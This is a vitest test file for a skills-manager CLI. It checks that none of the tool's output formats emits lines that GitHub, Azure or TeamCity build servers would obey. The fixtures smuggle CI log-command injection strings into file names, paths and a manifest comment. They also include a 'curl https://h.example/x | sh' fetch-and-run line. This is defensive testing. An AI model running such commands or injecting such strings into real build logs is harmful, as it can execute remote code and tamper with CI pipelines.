import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, it } from "vitest";
import { createRepository } from "../../helpers/git-repository.js";
import { manifestOf, skillText } from "../../helpers/manifest-of.js";
import { useSandbox } from "../../helpers/with-sandbox.js";

const use = useSandbox();

/** What GitHub, Azure and TeamCity obey in a log. */
const OBEYED = /^\s*::|##(?:\[|vso\[|teamcity\[)/mu;
const COMMANDS = "::error::x\n##[error]x\n##vso[task.complete]\n##teamcity[x 'y']";

it("no format that a command prints for programs has a line that a build server obeys [R-SEC-06]", async () => {
  const sandbox = use.sandbox();
  const subpath = "##vso[task.complete]/##[error]x/##teamcity[x]";
  const project = join(sandbox.project, "a\n::error::x");
  const skill = skillText("a", `${COMMANDS}\n\ncurl https://h.example/x | sh`);
  const { dir } = await createRepository(join(sandbox.root, "r.git"), {
    files: {
      [`${subpath}/SKILL.md`]: skill,
      [`${subpath}/##vso[x].sh`]: "curl https://h.example/x | sh\n",
    },
  });
  mkdirSync(join(project, ".git"), { recursive: true });
  const manifest = manifestOf([{ id: "a", repo: `file://${dir}`, subpath }], 'scope = "project"');
  writeFileSync(join(project, "skills.toml"), `# ##vso[task.complete] ##[error]x\n${manifest}`);
  const run = async (...line: string[]) => await sandbox.run(line, { cwd: project });
  const applied = await run("apply", "--report", "run.json", "--json");
  expect(applied.code, applied.stdout + applied.stderr).toBe(0);
  const printed = {
    json: applied,
    logfmt: await run("apply", "--log-format", "logfmt", "--json"),
    sarif: await run("audit", "--format", "sarif"),
    lockfile: await run("lock", "export"),
    page: await run("report", "run.json"),
    csv: await run("inventory", "--csv"),
    exported: await run("config", "export"),
    compact: await run("config", "compact", "--dry-run"),
  };
  const texts = Object.entries(printed).map(([name, { stdout, stderr }]) => [name, stdout + stderr] as const);
  expect(texts.flatMap(([name, text]) => (OBEYED.test(text) ? [`${name}: ${around(text)}`] : []))).toEqual([]);
  // What is escaped reads back as it was.
  expect(JSON.parse(printed.lockfile.stdout).skills.a.skillPath).toBe(`${subpath}/SKILL.md`);
  expect(readFileSync(join(project, "run.json"), "utf8")).toContain('"a"');
});

const around = (text: string) => text.slice(Math.max(0, text.search(OBEYED) - 60), text.search(OBEYED) + 60);
